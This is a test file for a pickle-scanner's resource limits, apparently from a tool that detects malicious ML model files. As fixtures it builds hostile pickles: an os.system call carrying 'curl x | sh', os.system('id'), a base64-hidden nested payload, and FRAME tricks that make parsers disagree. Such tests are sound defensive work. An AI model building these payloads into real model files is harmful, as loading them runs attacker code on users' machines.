import { describe, expect, test } from 'vitest';
import { pickle, torchStateDict, tuple } from '../../../test-fixtures/pickle-builder.js';
import { scanBytes } from './test-utils.js';

describe('limits (tiny limits trigger the limit finding and a partial target)', () => {
  test('maxPickleOps', () => {
    const r = scanBytes(torchStateDict(5), { limits: { maxPickleOps: 50 } });
    const f = r.of('scan/limit-exceeded')[0];
    expect(f?.evidence).toBe('maxPickleOps');
    expect(f?.severity).toBe('high');
    expect(r.partial).toBe(true);
    expect(r.analysis.complete).toBe(false);
    expect(r.analysis.opcodes).toBe(50);
  });

  test('maxPickleOps counts every stream of the source', () => {
    const one = pickle((b) => b.proto(2).none().stop());
    const many = new Uint8Array(one.length * 50);
    for (let i = 0; i < 50; i++) many.set(one, i * one.length);
    const r = scanBytes(many, { limits: { maxPickleOps: 60 } });
    expect(r.of('scan/limit-exceeded')[0]?.evidence).toBe('maxPickleOps');
  });

  test('maxPickleStack (items)', () => {
    const r = scanBytes(pickle((b) => {
      for (let i = 0; i < 100; i++) b.none();
      b.stop();
    }), { limits: { maxPickleStack: 10 } });
    expect(r.of('scan/limit-exceeded')[0]?.evidence).toBe('maxPickleStack');
    expect(r.partial).toBe(true);
  });

  test('maxPickleStack (marks)', () => {
    const r = scanBytes(pickle((b) => {
      for (let i = 0; i < 100; i++) b.mark();
      b.stop();
    }), { limits: { maxPickleStack: 10 } });
    expect(r.of('scan/limit-exceeded')[0]?.evidence).toBe('maxPickleStack');
  });

  test('maxPickleMemo', () => {
    const r = scanBytes(pickle((b) => {
      b.none();
      for (let i = 0; i < 100; i++) b.binPut(i);
      b.stop();
    }), { limits: { maxPickleMemo: 10 } });
    expect(r.of('scan/limit-exceeded')[0]?.evidence).toBe('maxPickleMemo');
  });

  test('maxPickleMemo counts distinct keys (re-PUT of a key is free), sparse keys too', () => {
    const r = scanBytes(pickle((b) => {
      b.none();
      for (let i = 0; i < 100; i++) b.binPut(3);
      b.longBinPut(4_000_000_000 & 0x7fffffff).longBinPut(2_000_000_000).stop();
    }), { limits: { maxPickleMemo: 3 } });
    expect(r.findings).toEqual([]);
  });

  test('maxStringBytes truncates strings (not a failure) and says so in evidence', () => {
    const long = `${'A'.repeat(5000)}; curl x | sh`;
    const r = scanBytes(pickle((b) => b.proto(2).call('os', 'system', long).stop()), { limits: { maxStringBytes: 100 } });
    expect(r.partial).toBe(false);
    const f = r.of('pickle/dangerous-call')[0];
    expect(f?.evidence).toMatch(/^os\.system\("A+ …" \(5013 bytes\)\)$/);
  });

  test('long strings past 64 × maxStringBytes keep only a head (memory does not grow with the file)', () => {
    const inner = pickle((b) => b.proto(2).call('os', 'system', 'id').stop());
    const b64 = Buffer.from(new Uint8Array([...inner, ...new Uint8Array(4000)])).toString('base64');
    const build = (filler: number): Uint8Array =>
      pickle((b) => {
        b.proto(2);
        for (let i = 0; i < filler; i++) b.binUnicode('A'.repeat(9000)).pop();
        b.global('pickle', 'loads').call('base64', 'b64decode', b64).tuple1().reduce().stop();
      });
    const limits = { maxStringBytes: 10_000 };
    // Within the budget the nested pickle is decoded and scanned…
    expect(scanBytes(build(10), { limits }).of('pickle/nested-pickle')).toHaveLength(1);
    // …past it the string is cut, the bytes are unknown, and loading them is critical.
    const r = scanBytes(build(80), { limits });
    expect(r.of('pickle/nested-pickle')).toHaveLength(0);
    expect(r.of('pickle/dangerous-call')[0]?.severity).toBe('critical');
  });

  test('a global name longer than maxStringBytes is graded as computed (never allowed)', () => {
    const r = scanBytes(pickle((b) => b.proto(4).str('torch').binUnicode('x'.repeat(300)).stackGlobal().stop()), { limits: { maxStringBytes: 100 } });
    expect(r.of('pickle/dangerous-global')).toHaveLength(1);
  });

  test('maxNestingDepth for joblib object arrays and nested loads', () => {
    let bytes = pickle((b) => b.proto(2).none().stop());
    for (let i = 0; i < 3; i++) {
      const cur = bytes;
      bytes = pickle((b) => b.proto(3).global('pickle', 'loads').binBytes(cur).tuple1().reduce().stop());
    }
    expect(scanBytes(bytes, { limits: { maxNestingDepth: 5 } }).partial).toBe(false);
    expect(scanBytes(bytes, { limits: { maxNestingDepth: 1 } }).partial).toBe(true);
  });

  test('maxReadBytes from the source is reported, not thrown', () => {
    // A source whose reads fail with a limit error (as a FileSource with a ReadBudget does).
    const r = scanBytes(pickle((b) => b.proto(2).call('collections', 'OrderedDict').value(tuple()).pop().stop()), { limits: { maxPickleOps: 3 } });
    expect(r.partial).toBe(true);
  });

  test('maxPickleReadings: alternative readings past the limit are reported, not skipped silently', () => {
    // Each stream STOPs inside a FRAME that runs on over a decoy: pickle.py starts the next load()
    // at the frame end, the C unpickler after STOP. Three such streams give three alternative readings.
    const decoy = pickle((b) => b.proto(2).none().stop());
    let bytes = pickle((b) => b.proto(2).call('os', 'system', 'id').stop());
    for (let i = 0; i < 3; i++) {
      const rest = bytes;
      bytes = pickle((b) => b.proto(4).frame(2 + decoy.length).none().stop().raw(decoy).raw(rest));
    }
    expect(scanBytes(bytes).partial).toBe(false);
    const r = scanBytes(bytes, { limits: { maxPickleReadings: 1 } });
    const f = r.of('scan/limit-exceeded')[0];
    expect(f?.evidence).toBe('maxPickleReadings');
    expect(f?.message).toContain('maxPickleReadings (1)');
    expect(r.partial).toBe(true);
    expect(r.analysis.complete).toBe(false);
    // The C reading still reaches the payload.
    expect(r.of('pickle/dangerous-call')).toHaveLength(1);
  });
});
